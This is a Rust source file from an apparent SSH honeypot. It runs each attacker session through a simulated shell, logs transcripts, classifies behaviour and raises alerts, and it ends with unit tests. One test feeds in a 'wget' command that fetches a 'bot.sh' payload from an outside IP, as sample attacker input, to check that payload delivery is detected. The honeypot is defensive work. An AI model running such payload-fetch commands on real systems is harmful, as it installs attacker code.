// SPDX-License-Identifier: AGPL-3.0-or-later
// Copyright (c) 2025-2026 JR Morton

//! Per-connection read-interpret-respond loop.
//!
//! [`run_session`] owns one [`SessionState`] for the lifetime of a channel.
//! Each cycle reads one line, runs it through the [`Shell`], and writes the
//! reply followed by the prompt. The loop ends on end-of-input, `exit` /
//! `logout`, an I/O fault, or a listener shutdown; in every case the writer
//! is shut down, the transcript is appended exactly once, and the session is
//! labelled.

use chrono::Utc;
use std::fmt;
use std::sync::Arc;
use tokio::io::{AsyncBufRead, AsyncBufReadExt, AsyncRead, AsyncReadExt, AsyncWrite, AsyncWriteExt, BufReader};
use tokio::sync::{mpsc, watch};

use super::alerts::{Alert, Severity};
use crate::behavior::{BehaviorClassifier, BehaviorLabel};
use crate::shell::session::{Identity, SessionState};
use crate::shell::{Flow, Shell};
use crate::transcript::{TranscriptLogger, TranscriptRecord};

/// Upper bound on a single read; longer input is split across cycles.
pub const MAX_LINE_BYTES: u64 = 4096;

/// Shared collaborators every session task needs.
#[derive(Clone)]
pub struct SessionContext {
    pub shell: Shell,
    pub classifier: Arc<BehaviorClassifier>,
    pub logger: Arc<TranscriptLogger>,
    pub alert_tx: mpsc::Sender<Alert>,
    /// Flips to `true` when the listener is shutting down
    pub shutdown: watch::Receiver<bool>,
}

/// Outcome of one read-interpret step.
#[derive(Debug)]
pub enum Cycle {
    /// Write the text, then the prompt, and keep reading
    Response(String),
    /// Write the text and close the channel
    Terminate(String),
    /// The peer closed its side
    Eof,
    IoFault(std::io::Error),
    /// The listener is going away
    Shutdown,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum EndReason {
    Eof,
    Logout,
    IoFault,
    Shutdown,
}

impl fmt::Display for EndReason {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            EndReason::Eof => write!(f, "eof"),
            EndReason::Logout => write!(f, "logout"),
            EndReason::IoFault => write!(f, "io fault"),
            EndReason::Shutdown => write!(f, "shutdown"),
        }
    }
}

/// What a finished session left behind.
#[derive(Debug, Clone)]
pub struct SessionSummary {
    pub record: TranscriptRecord,
    pub label: BehaviorLabel,
    pub reason: EndReason,
    /// False when the transcript append failed
    pub logged: bool,
}

/// Decode attacker input, dropping undecodable bytes and control characters.
pub fn decode_permissive(bytes: &[u8]) -> String {
    bytes.utf8_chunks()
        .flat_map(|chunk| chunk.valid().chars())
        .filter(|c| !c.is_control() || *c == '\t')
        .collect()
}

/// Read one line (at most [`MAX_LINE_BYTES`]) and decode it.
/// `Ok(None)` means end-of-input.
pub async fn read_line<R: AsyncBufRead + Unpin>(reader: &mut R) -> std::io::Result<Option<String>> {
    let mut buf = Vec::new();
    let n = reader.take(MAX_LINE_BYTES).read_until(b'\n', &mut buf).await?;
    if n == 0 {
        return Ok(None);
    }
    Ok(Some(decode_permissive(&buf)))
}

/// Resolves once `shutdown` reads `true`. Never resolves if the sender is gone.
pub(crate) async fn shutdown_requested(shutdown: &mut watch::Receiver<bool>) {
    loop {
        if *shutdown.borrow_and_update() {
            return;
        }
        if shutdown.changed().await.is_err() {
            std::future::pending::<()>().await;
        }
    }
}

async fn next_cycle<R: AsyncBufRead + Unpin>(
    reader: &mut R,
    shell: &Shell,
    state: &mut SessionState,
    shutdown: &mut watch::Receiver<bool>,
) -> Cycle {
    // Only the read is raced; once a line is in, it is interpreted and answered.
    let read = tokio::select! {
        read = read_line(reader) => read,
        _ = shutdown_requested(shutdown) => return Cycle::Shutdown,
    };
    match read {
        Ok(Some(line)) => {
            let reply = shell.execute(line.trim(), state);
            match reply.flow {
                Flow::Continue => Cycle::Response(reply.output),
                Flow::Terminate => Cycle::Terminate(reply.output),
            }
        }
        Ok(None) => Cycle::Eof,
        Err(e) => Cycle::IoFault(e),
    }
}

async fn write_text<W: AsyncWrite + Unpin>(writer: &mut W, text: &str) -> std::io::Result<()> {
    writer.write_all(text.as_bytes()).await?;
    writer.flush().await
}

/// Drive one session from channel-open to close.
///
/// Returns `None` only if the state was already closed, in which case
/// nothing is logged.
pub async fn run_session<R, W>(
    reader: R,
    mut writer: W,
    identity: Identity,
    source_address: String,
    ctx: &SessionContext,
) -> Option<SessionSummary>
where
    R: AsyncRead + Unpin,
    W: AsyncWrite + Unpin,
{
    let mut reader = BufReader::new(reader);
    let mut state = SessionState::new(identity, source_address);
    state.activate();

    let _ = ctx.alert_tx.send(Alert::new(
        Severity::Info,
        "session",
        &format!("Session opened from {} as {:?}", state.source_address(), state.identity().username),
    )).await;
    tracing::debug!("{} offered password {:?}", state.source_address(), state.identity().password);

    let greeting = format!("{}{}", ctx.shell.banner(&state), ctx.shell.prompt());
    let reason = match write_text(&mut writer, &greeting).await {
        Err(e) => {
            tracing::debug!("banner write to {} failed: {}", state.source_address(), e);
            EndReason::IoFault
        }
        Ok(()) => {
            let mut shutdown = ctx.shutdown.clone();
            drive(&mut reader, &mut writer, &ctx.shell, &mut state, &mut shutdown).await
        }
    };

    let _ = writer.shutdown().await;
    let record = state.close()?;
    let duration = Utc::now().signed_duration_since(state.started());
    tracing::debug!("Session from {} is {} after {}s", record.source_ip, state.phase(), duration.num_seconds());
    Some(finish(record, reason, duration.num_seconds(), ctx).await)
}

async fn drive<R, W>(
    reader: &mut R,
    writer: &mut W,
    shell: &Shell,
    state: &mut SessionState,
    shutdown: &mut watch::Receiver<bool>,
) -> EndReason
where
    R: AsyncBufRead + Unpin,
    W: AsyncWrite + Unpin,
{
    loop {
        let written = match next_cycle(reader, shell, state, shutdown).await {
            Cycle::Response(output) => {
                let text = if output.is_empty() {
                    shell.prompt().to_string()
                } else {
                    format!("{}\n{}", output, shell.prompt())
                };
                write_text(writer, &text).await
            }
            Cycle::Terminate(output) => {
                let _ = write_text(writer, &format!("{}\n", output)).await;
                return EndReason::Logout;
            }
            Cycle::Eof => return EndReason::Eof,
            Cycle::Shutdown => return EndReason::Shutdown,
            Cycle::IoFault(e) => {
                tracing::debug!("read from {} failed: {}", state.source_address(), e);
                return EndReason::IoFault;
            }
        };
        if let Err(e) = written {
            tracing::debug!("write to {} failed: {}", state.source_address(), e);
            return EndReason::IoFault;
        }
    }
}

async fn finish(record: TranscriptRecord, reason: EndReason, seconds: i64, ctx: &SessionContext) -> SessionSummary {
    let logged = match ctx.logger.append(&record) {
        Ok(()) => true,
        Err(e) => {
            tracing::warn!("Transcript append failed for {}: {:#}", record.source_ip, e);
            let _ = ctx.alert_tx.send(Alert::new(
                Severity::Warning,
                "transcript",
                &format!("Failed to persist session from {}: {}", record.source_ip, e),
            )).await;
            false
        }
    };

    let label = ctx.classifier.classify(&record.commands);
    let _ = ctx.alert_tx.send(Alert::new(
        label.severity(),
        "session",
        &format!("Session from {} closed ({}) after {}s: {} commands, label {}",
            record.source_ip, reason, seconds, record.commands.len(), label),
    )).await;

    SessionSummary { record, label, reason, logged }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::config::{FilesystemConfig, SystemProfile};
    use crate::transcript::read_records;
    use crate::vfs::VirtualFilesystem;
    use std::path::Path;
    use std::pin::Pin;
    use std::task::{Context, Poll};
    use tokio::io::{duplex, ReadBuf};

    struct Harness {
        ctx: SessionContext,
        alerts: mpsc::Receiver<Alert>,
        stop: watch::Sender<bool>,
    }

    fn context(log_path: &Path) -> Harness {
        let (alert_tx, alerts) = mpsc::channel(256);
        let (stop, shutdown) = watch::channel(false);
        let ctx = SessionContext {
            shell: Shell::new(
                Arc::new(VirtualFilesystem::from_config(&FilesystemConfig::default())),
                Arc::new(SystemProfile::default()),
            ),
            classifier: Arc::new(BehaviorClassifier::default()),
            logger: Arc::new(TranscriptLogger::new(log_path, 0)),
            alert_tx,
            shutdown,
        };
        Harness { ctx, alerts, stop }
    }

    /// Hands out `data`, then fails every further read.
    struct ResetAfter {
        data: &'static [u8],
    }

    impl AsyncRead for ResetAfter {
        fn poll_read(mut self: Pin<&mut Self>, _cx: &mut Context<'_>, buf: &mut ReadBuf<'_>) -> Poll<std::io::Result<()>> {
            if self.data.is_empty() {
                return Poll::Ready(Err(std::io::ErrorKind::ConnectionReset.into()));
            }
            let n = self.data.len().min(buf.remaining());
            buf.put_slice(&self.data[..n]);
            self.data = &self.data[n..];
            Poll::Ready(Ok(()))
        }
    }

    /// Feed `input` then EOF, run the session, and collect everything it wrote.
    async fn scripted(input: &[u8], ctx: &SessionContext) -> (SessionSummary, String) {
        let (client, server) = duplex(64 * 1024);
        let (server_read, server_write) = tokio::io::split(server);
        let (mut client_read, mut client_write) = tokio::io::split(client);
        client_write.write_all(input).await.unwrap();
        client_write.shutdown().await.unwrap();

        let summary = run_session(
            server_read,
            server_write,
            Identity::new("root", "admin123"),
            "203.0.113.50".to_string(),
            ctx,
        ).await.expect("fresh session yields a summary");

        let mut output = String::new();
        client_read.read_to_string(&mut output).await.unwrap();
        (summary, output)
    }

    #[test]
    fn test_decode_drops_invalid_bytes_and_controls() {
        assert_eq!(decode_permissive(b"who\xffami"), "whoami");
        assert_eq!(decode_permissive(b"ls\r\n"), "ls");
        assert_eq!(decode_permissive("échο\t1".as_bytes()), "échο\t1");
        assert_eq!(decode_permissive(b"\x1b[Aid"), "[Aid");
    }

    #[tokio::test]
    async fn test_read_line_caps_length() {
        let data = vec![b'a'; (MAX_LINE_BYTES as usize) + 10];
        let mut reader = BufReader::new(&data[..]);
        let first = read_line(&mut reader).await.unwrap().unwrap();
        assert_eq!(first.len(), MAX_LINE_BYTES as usize);
        let rest = read_line(&mut reader).await.unwrap().unwrap();
        assert_eq!(rest.len(), 10);
        assert!(read_line(&mut reader).await.unwrap().is_none());
    }

    #[tokio::test]
    async fn test_session_until_eof() {
        let dir = tempfile::tempdir().unwrap();
        let Harness { ctx, .. } = context(&dir.path().join("sessions.jsonl"));
        let (summary, output) = scripted(b"whoami\npwd\nhistory\n", &ctx).await;

        assert_eq!(summary.reason, EndReason::Eof);
        assert_eq!(summary.record.commands, vec!["whoami", "pwd", "history"]);
        assert_eq!(summary.record.username, "root");
        assert_eq!(summary.record.password, "admin123");
        assert!(summary.logged);

        assert!(output.starts_with("Welcome to Linux 5.15.0-91-generic (x86_64)\nLast login: "));
        assert!(output.contains("root\n$ /\n$ 1  whoami\n2  pwd\n$ "));
    }

    #[tokio::test]
    async fn test_exit_stops_reading() {
        let dir = tempfile::tempdir().unwrap();
        let Harness { ctx, .. } = context(&dir.path().join("sessions.jsonl"));
        let (summary, output) = scripted(b"ls\nexit\nwhoami\n", &ctx).await;

        assert_eq!(summary.reason, EndReason::Logout);
        assert_eq!(summary.record.commands, vec!["ls", "exit"]);
        assert!(output.ends_with("bin  etc  home  var\n$ logout\n"));
    }

    #[tokio::test]
    async fn test_crlf_and_binary_input() {
        let dir = tempfile::tempdir().unwrap();
        let Harness { ctx, .. } = context(&dir.path().join("sessions.jsonl"));
        let (summary, _) = scripted(b"who\xffami\r\n\xfe\xfd\r\n", &ctx).await;
        assert_eq!(summary.record.commands, vec!["whoami", ""]);
    }

    #[tokio::test]
    async fn test_blank_lines_get_prompt_only() {
        let dir = tempfile::tempdir().unwrap();
        let Harness { ctx, .. } = context(&dir.path().join("sessions.jsonl"));
        let (summary, output) = scripted(b"\n\nid\n", &ctx).await;
        assert_eq!(summary.record.commands, vec!["", "", "id"]);
        assert!(output.contains("$ $ $ uid=0(root)"));
    }

    #[tokio::test]
    async fn test_session_written_once_and_readable() {
        let dir = tempfile::tempdir().unwrap();
        let log = dir.path().join("sessions.jsonl");
        let Harness { ctx, .. } = context(&log);
        let (summary, _) = scripted(b"cd /home\nls\n", &ctx).await;

        let records = read_records(&log).unwrap();
        assert_eq!(records, vec![summary.record]);
    }

    #[tokio::test]
    async fn test_payload_session_labelled_and_alerted() {
        let dir = tempfile::tempdir().unwrap();
        let Harness { ctx, alerts: mut rx, .. } = context(&dir.path().join("sessions.jsonl"));
        let (summary, _) = scripted(b"cd /tmp\nwget http://198.51.100.9/bot.sh\n", &ctx).await;
        assert_eq!(summary.label, BehaviorLabel::PayloadDelivery);

        let mut alerts = Vec::new();
        while let Ok(alert) = rx.try_recv() {
            alerts.push(alert);
        }
        assert!(alerts.iter().any(|a| a.message.contains("Session opened from 203.0.113.50")));
        assert!(alerts.iter().all(|a| !a.message.contains("admin123")));
        assert!(alerts.iter().any(|a| a.severity == Severity::Critical
            && a.message.contains("payload_delivery")));
    }

    #[tokio::test]
    async fn test_logger_failure_is_not_fatal() {
        let dir = tempfile::tempdir().unwrap();
        let blocker = dir.path().join("not-a-dir");
        std::fs::write(&blocker, "x").unwrap();
        let Harness { ctx, alerts: mut rx, .. } = context(&blocker.join("sessions.jsonl"));

        let (summary, output) = scripted(b"whoami\n", &ctx).await;
        assert!(!summary.logged);
        assert_eq!(summary.label, BehaviorLabel::Reconnaissance);
        assert!(output.contains("root\n$ "));

        let mut saw_failure = false;
        while let Ok(alert) = rx.try_recv() {
            if alert.source == "transcript" {
                saw_failure = true;
            }
        }
        assert!(saw_failure);
    }

    #[tokio::test]
    async fn test_peer_gone_before_banner() {
        let dir = tempfile::tempdir().unwrap();
        let log = dir.path().join("sessions.jsonl");
        let Harness { ctx, .. } = context(&log);
        let (client, server) = duplex(1024);
        drop(client);
        let (server_read, server_write) = tokio::io::split(server);

        let summary = run_session(server_read, server_write, Identity::new("a", "b"), "192.0.2.1".into(), &ctx)
            .await
            .unwrap();
        assert_eq!(summary.reason, EndReason::IoFault);
        assert!(summary.record.commands.is_empty());
        assert_eq!(read_records(&log).unwrap().len(), 1);
    }

    #[tokio::test(flavor = "multi_thread", worker_threads = 4)]
    async fn test_one_record_per_concurrent_session() {
        let dir = tempfile::tempdir().unwrap();
        let log = dir.path().join("sessions.jsonl");
        let Harness { ctx, .. } = context(&log);

        let mut handles = Vec::new();
        for i in 0..20 {
            let ctx = ctx.clone();
            handles.push(tokio::spawn(async move {
                let script = if i % 2 == 0 { "whoami\nexit\n" } else { "ls\npwd\n" };
                scripted(script.as_bytes(), &ctx).await.0
            }));
        }
        for h in handles {
            h.await.unwrap();
        }

        let records = read_records(&log).unwrap();
        assert_eq!(records.len(), 20);
    }

    #[tokio::test]
    async fn test_read_fault_mid_session_keeps_commands() {
        let dir = tempfile::tempdir().unwrap();
        let log = dir.path().join("sessions.jsonl");
        let Harness { ctx, .. } = context(&log);

        let summary = run_session(
            ResetAfter { data: b"whoami\npwd\n" },
            tokio::io::sink(),
            Identity::new("root", "root"),
            "198.51.100.23".into(),
            &ctx,
        ).await.unwrap();

        assert_eq!(summary.reason, EndReason::IoFault);
        assert_eq!(summary.record.commands, vec!["whoami", "pwd"]);
        assert!(summary.logged);
        let records = read_records(&log).unwrap();
        assert_eq!(records.len(), 1);
        assert_eq!(records[0].commands, vec!["whoami", "pwd"]);
    }

    #[tokio::test]
    async fn test_shutdown_closes_idle_session_and_logs_it() {
        let dir = tempfile::tempdir().unwrap();
        let log = dir.path().join("sessions.jsonl");
        let Harness { ctx, stop, .. } = context(&log);

        let (client, server) = duplex(64 * 1024);
        let (server_read, server_write) = tokio::io::split(server);
        let (mut client_read, mut client_write) = tokio::io::split(client);
        let session = tokio::spawn(async move {
            run_session(server_read, server_write, Identity::new("pi", "raspberry"), "192.0.2.77".into(), &ctx).await
        });

        // Wait until the command has been answered, then leave the line open.
        client_write.write_all(b"whoami\n").await.unwrap();
        let mut seen = Vec::new();
        let mut chunk = [0u8; 1024];
        while !String::from_utf8_lossy(&seen).contains("root\n$ ") {
            let n = client_read.read(&mut chunk).await.unwrap();
            assert!(n > 0, "session closed early");
            seen.extend_from_slice(&chunk[..n]);
        }

        stop.send_replace(true);
        let summary = session.await.unwrap().unwrap();
        assert_eq!(summary.reason, EndReason::Shutdown);
        assert_eq!(summary.record.commands, vec!["whoami"]);
        assert_eq!(read_records(&log).unwrap().len(), 1);
    }

    #[tokio::test]
    async fn test_shutdown_signal_already_set() {
        let (stop, mut shutdown) = watch::channel(false);
        stop.send_replace(true);
        tokio::time::timeout(std::time::Duration::from_secs(1), shutdown_requested(&mut shutdown))
            .await
            .unwrap();
    }
}
